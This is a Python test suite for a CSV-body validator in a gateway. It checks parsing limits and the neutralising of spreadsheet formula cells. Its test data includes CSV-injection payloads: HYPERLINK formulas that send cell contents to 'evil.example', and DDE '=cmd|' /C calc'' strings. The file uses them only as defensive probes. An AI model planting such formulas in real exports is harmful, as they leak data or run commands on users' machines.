"""CSV bodies: strict parsing, row/column/field limits, formula cells neutralised."""

from __future__ import annotations

import csv
import io
import re
from typing import Literal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from interlock.config.manifest import CsvPolicy
from interlock.gateway.problems import REFUSALS
from interlock.validation.csv_body import CsvResult, check_csv
from interlock.validation.errors import BodyRefused


def refusal(body: bytes, policy: CsvPolicy | None = None) -> BodyRefused:
    """The refusal ``check_csv`` raises for ``body``."""
    with pytest.raises(BodyRefused) as caught:
        check_csv(body, policy or CsvPolicy())
    return caught.value


def test_plain_csv_is_reserialised_unchanged_with_crlf() -> None:
    """Harmless cells pass untouched; line ends become CRLF (RFC 4180 §2)."""
    result = check_csv(b'sku,name,qty\nABC-1,"Bolt, M4",5\n', CsvPolicy())
    assert result == CsvResult(b'sku,name,qty\r\nABC-1,"Bolt, M4",5\r\n', rows=2, neutralised=0)


@pytest.mark.parametrize(
    ("cell", "forwarded"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t'=1+1"),  # TAB is a separator too: no live formula in a TSV reading
        ("\rx", '"\'\rx"'),
        ("\tplain", "'\tplain"),
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"',
        ),
        (" =1+1", "' =1+1"),
        ('"=1+1', '"\'""=1+1"'),
        ("\u00a0=1+1", "'\u00a0=1+1"),
        ("-5", "'-5"),
        ("+49 30 1234", "'+49 30 1234"),
    ],
    ids=[
        "equals",
        "plus",
        "minus",
        "at",
        "tab",
        "cr",
        "tab-then-text",
        "hyperlink",
        "space-then-equals",
        "quote-then-equals",
        "nbsp-then-equals",
        "negative-number",
        "phone-number",
    ],
)
def test_formula_cells_get_a_leading_apostrophe(cell: str, forwarded: str) -> None:
    """OWASP CSV injection: each dangerous cell is prefixed with ' and counted."""
    source = io.StringIO()
    csv.writer(source, lineterminator="\r\n").writerow(["id", cell])
    result = check_csv(source.getvalue().encode(), CsvPolicy())
    assert result.body == f"id,{forwarded}\r\n".encode()
    assert (result.rows, result.neutralised) == (1, 1)


@pytest.mark.parametrize(
    "cell", ["1+1", "a=b", "x-y", "mail@example.com", "'=1+1", " ", "5", "Zoë"]
)
def test_harmless_cells_are_left_alone(cell: str) -> None:
    """Dangerous characters after the start, or an existing apostrophe, change nothing."""
    result = check_csv(f"{cell}\r\n".encode(), CsvPolicy())
    assert result.neutralised == 0
    assert list(csv.reader(io.StringIO(result.body.decode(), newline=""))) == [[cell]]


def test_neutralised_count_is_per_cell_across_rows_and_header() -> None:
    """Header cells count too; three dangerous cells in two rows give neutralised == 3."""
    result = check_csv(b"=a,b\n-1,@x,ok\n", CsvPolicy())
    assert result.body == b"'=a,b\r\n'-1,'@x,ok\r\n"
    assert (result.rows, result.neutralised) == (2, 3)


def test_delimiter_is_kept_when_reserialising() -> None:
    """A semicolon CSV stays semicolon-separated; commas in cells need no quotes."""
    result = check_csv(b"a;=1,2;c\n", CsvPolicy(delimiter=";"))
    assert result.body == b"a;'=1,2;c\r\n"
    assert result.neutralised == 1


def test_without_neutralisation_body_is_forwarded_byte_for_byte() -> None:
    """neutralise_formulas off: the limits still apply; the bytes are untouched."""
    body = b"\xef\xbb\xbf=1+1,-5\n"
    assert check_csv(body, CsvPolicy(neutralise_formulas=False)) == CsvResult(body, 1, 0)


def test_byte_order_mark_is_not_part_of_the_first_cell() -> None:
    """A UTF-8 BOM is tolerated and dropped: '=' behind it is still caught."""
    result = check_csv(b"\xef\xbb\xbf=1+1\n", CsvPolicy())
    assert result.body == b"'=1+1\r\n"


def test_quoted_cells_with_newlines_survive() -> None:
    """A quoted cell spanning lines is one cell, quoted again on the way out."""
    result = check_csv(b'a,"line 1\nline 2"\n', CsvPolicy())
    assert result.body == b'a,"line 1\nline 2"\r\n'
    assert result.rows == 1


def test_empty_body_has_no_rows() -> None:
    """An empty body is an empty CSV."""
    assert check_csv(b"", CsvPolicy()) == CsvResult(b"", 0, 0)


@pytest.mark.parametrize(
    "body",
    [b"caf\xe9\n", "a,b\n".encode("utf-16"), b"a,\xed\xa0\x80\n"],
    ids=["latin-1", "utf-16", "surrogate"],
)
def test_non_utf8_is_malformed(body: bytes) -> None:
    """Bytes that are not UTF-8 are 400 malformed-body."""
    refused = refusal(body)
    assert (REFUSALS[refused.code].status, refused.code) == (400, "malformed-body")
    assert refused.detail.startswith("not UTF-8 at byte ")


@pytest.mark.parametrize(
    ("body", "detail"),
    [
        (b'a,"b"c\n', "not valid CSV at line 1"),
        (b'a,b\nc,"unterminated\n', "not valid CSV at line 2"),
        (b"a\0b\n", "NUL characters are not accepted"),
    ],
    ids=["text-after-quote", "unterminated-quote", "nul"],
)
def test_invalid_csv_is_malformed(body: bytes, detail: str) -> None:
    """strict=True: stray and unterminated quotes are refused, as is NUL."""
    refused = refusal(body)
    assert (REFUSALS[refused.code].status, refused.code, refused.detail) == (
        400,
        "malformed-body",
        detail,
    )


def test_rows_up_to_the_limit_pass_and_one_more_is_413() -> None:
    """max_rows rows are fine; one more is 413 too-many-rows."""
    policy = CsvPolicy(max_rows=3)
    assert check_csv(b"h\n1\n2\n", policy).rows == 3
    refused = refusal(b"h\n1\n2\n3\n", policy)
    assert (REFUSALS[refused.code].status, refused.code, refused.detail) == (
        413,
        "too-many-rows",
        "more than 3 rows",
    )


def test_row_bomb_stops_at_the_limit() -> None:
    """A million blank lines against the default limit of 100 000 is 413."""
    assert refusal(b"\n" * 1_000_000).code == "too-many-rows"


def test_too_many_columns_is_400() -> None:
    """A record wider than max_columns is refused, naming the row."""
    policy = CsvPolicy(max_columns=3)
    assert check_csv(b"a,b,c\n", policy).rows == 1
    refused = refusal(b"a,b,c\n1,2,3,4\n", policy)
    assert (REFUSALS[refused.code].status, refused.code, refused.detail) == (
        400,
        "too-many-columns",
        "row 2 has 4 columns; at most 3",
    )


def test_field_longer_than_the_limit_is_400() -> None:
    """A field of max_field_length characters passes; one more is refused."""
    policy = CsvPolicy(max_field_length=4)
    assert check_csv("ëëëë\n".encode(), policy).rows == 1
    refused = refusal(b"ok\nabcde\n", policy)
    assert (REFUSALS[refused.code].status, refused.code, refused.detail) == (
        400,
        "field-too-long",
        "row 2 has a field longer than 4 characters",
    )


def test_field_over_the_csv_module_limit_is_field_too_long() -> None:
    """Past csv.field_size_limit() the refusal is field-too-long, not malformed-body."""
    policy = CsvPolicy(max_field_length=10 * csv.field_size_limit())
    refused = refusal(b"a\n" + b"x" * (csv.field_size_limit() + 1) + b"\n", policy)
    assert (REFUSALS[refused.code].status, refused.code) == (400, "field-too-long")
    assert refused.detail.startswith("row 2 has a field longer than")


cells = st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), max_size=20)


@given(st.lists(st.lists(cells, min_size=1, max_size=5), max_size=5))
def test_no_forwarded_cell_can_start_a_formula(rows: list[list[str]]) -> None:
    """Whatever goes in, every cell that comes out starts harmlessly, and only ' is added."""
    source = io.StringIO()
    csv.writer(source, lineterminator="\r\n").writerows(rows)
    result = check_csv(source.getvalue().encode(), CsvPolicy())
    forwarded = list(csv.reader(io.StringIO(result.body.decode(), newline="")))
    assert len(forwarded) == len(rows) == result.rows
    changed = 0
    for original_row, forwarded_row in zip(rows, forwarded, strict=True):
        for original, cell in zip(original_row, forwarded_row, strict=True):
            assert cell.lstrip(' \t\r\n"\u00a0')[:1] not in {"=", "+", "-", "@"}
            assert cell.replace("'", "") == original.replace("'", "")
            assert cell.count("'") >= original.count("'")
            changed += cell != original
    assert result.neutralised == changed
    assert _LIVE_FORMULA.search(result.body.decode()) is None


# Issue 18 item 8: the declared delimiter is not the only one a spreadsheet may use.

# Where any common dialect (, ; TAB |) starts a field - the text's start, a separator or
# a line break - followed by whitespace and quotes and a formula character.
_LIVE_FORMULA = re.compile(r"(?:\A|[,;\t|\r\n])[\s\"]*[=+\-@]")
Delimiter = Literal[",", ";", "\t", "|"]
DIALECTS: list[Delimiter] = [",", ";", "\t", "|"]


def _fields(text: str, delimiter: str) -> list[str]:
    """Every field a reader with ``delimiter`` sees, quoted (csv) or naively split."""
    quoted = [f for r in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for f in r]
    naive = [f for line in re.split(r"[\r\n]", text) for f in line.split(delimiter)]
    return quoted + naive


def _live(text: str) -> list[tuple[str, str]]:
    """The fields that start a formula in any dialect's reading of ``text``."""
    return [
        (delimiter, field)
        for delimiter in DIALECTS
        for field in _fields(text, delimiter)
        if re.match(r"[\s\"]*[=+\-@]", field)
    ]


HOSTILE = [
    b'SKU-1;=HYPERLINK("http://evil.example/?"&A1;"Click")\r\nSKU-2;ok\r\n',
    b"SKU-1;=cmd|' /C calc'!A0\r\n",
    b'SKU-1\t=HYPERLINK("http://evil.example";"x")\r\n',
    b"SKU-1\t=cmd|'/c calc'!A1\r\nSKU-2\t@SUM(A1)\r\n",
    b"SKU-1|=1+1\r\n",
    b'"SKU-1;\t =1+1",x\r\n',
    b'SKU-1; "+1\r\n',
    b'a,"line 1\n=1+1"\r\n',
]


@pytest.mark.parametrize("body", HOSTILE[:4], ids=range(4))
def test_semicolon_and_tab_bodies_on_a_comma_route_are_neutralised(body: bytes) -> None:
    """A ; or TAB body on a route declared , is forwarded with no live formula in any reading."""
    assert _live(body.decode()), "the probe itself must be hostile"
    result = check_csv(body, CsvPolicy())
    forwarded = result.body.decode()
    assert _live(forwarded) == []
    assert _LIVE_FORMULA.search(forwarded) is None
    assert result.neutralised >= 1


@pytest.mark.parametrize("body", HOSTILE, ids=range(len(HOSTILE)))
@pytest.mark.parametrize("delimiter", DIALECTS, ids=["comma", "semicolon", "tab", "pipe"])
def test_no_declared_dialect_lets_a_formula_through(body: bytes, delimiter: Delimiter) -> None:
    """Under any declared delimiter a hostile body is refused as malformed or neutralised."""
    policy = CsvPolicy(delimiter=delimiter)
    try:
        result = check_csv(body, policy)
    except BodyRefused:
        # Stray quotes in this dialect: refused (nothing forwarded), and only for that reason.
        assert refusal(body, policy).code == "malformed-body"
        return
    assert _live(result.body.decode()) == []
    assert _LIVE_FORMULA.search(result.body.decode()) is None


def test_a_semicolon_body_on_a_comma_route_keeps_its_text() -> None:
    """Only a ' is added before each formula; the rest of the cell is the client's."""
    result = check_csv(b'SKU-1;=HYPERLINK("http://evil.example";"x");5\r\n', CsvPolicy())
    (cell,) = next(csv.reader(io.StringIO(result.body.decode(), newline="")))
    assert cell == 'SKU-1;\'=HYPERLINK("http://evil.example";"x");5'
    assert result.neutralised == 1


def test_a_semicolon_in_a_text_cell_is_left_alone() -> None:
    """A separator followed by ordinary text is not a formula: nothing changes."""
    body = b'id,note\r\n1,"call back; then ship, | fast"\r\n'
    assert check_csv(body, CsvPolicy()) == CsvResult(body, 2, 0)


dialect_cells = st.text(st.sampled_from(list(",;\t|\r\n \"'=+-@aZ0\u00a0")), max_size=12)


@given(
    st.lists(st.lists(dialect_cells, min_size=1, max_size=4), max_size=4),
    st.sampled_from(DIALECTS),
)
def test_no_dialect_sees_a_formula_in_what_is_forwarded(
    rows: list[list[str]], delimiter: Delimiter
) -> None:
    """Cells built from separators, quotes and formula characters, under any declared dialect."""
    source = io.StringIO()
    csv.writer(source, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    result = check_csv(source.getvalue().encode(), CsvPolicy(delimiter=delimiter))
    assert _LIVE_FORMULA.search(result.body.decode()) is None
    assert _live(result.body.decode()) == []


def test_blank_lines_are_kept_and_counted_as_rows() -> None:
    """A blank line is a record of its own: forwarded as an empty line and counted."""
    assert check_csv(b"a\n\nb\n", CsvPolicy()) == CsvResult(b"a\r\n\r\nb\r\n", 3, 0)
